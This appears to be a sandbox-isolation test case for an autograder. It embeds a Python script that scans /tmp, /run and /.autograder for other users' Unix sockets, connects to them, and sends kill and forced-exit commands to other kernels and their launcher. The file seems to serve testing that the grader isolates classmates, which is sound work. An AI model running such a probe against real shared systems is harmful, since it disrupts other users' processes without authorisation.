"""Speak to the sockets of other kernels, and of what starts them.

class: classmates
expect: graded
"""

EXTRA = [
    """import glob
import os
import socket
import stat

from autograder.inside import framing

mine = set()
for fd in os.listdir("/proc/self/fd"):
    try:
        end = socket.socket(fileno=os.dup(int(fd)))
        mine.add(str(end.getsockname()))
    except OSError:
        pass
places = ["/tmp/**/*", "/run/**/*", "/.autograder/**/*"]
for path in sum((glob.glob(place, recursive=True) for place in places), []):
    try:
        if not stat.S_ISSOCK(os.stat(path).st_mode) or path in mine:
            continue
    except OSError:
        continue
    try:
        probe = socket.socket(socket.AF_UNIX)
        probe.connect(path)
        print("LOOT: a socket that is not mine", path)
        for order in ({"signal": 9}, ["run", "import os; os._exit(1)"]):
            framing.send(probe, order)
    except OSError:
        pass"""
]
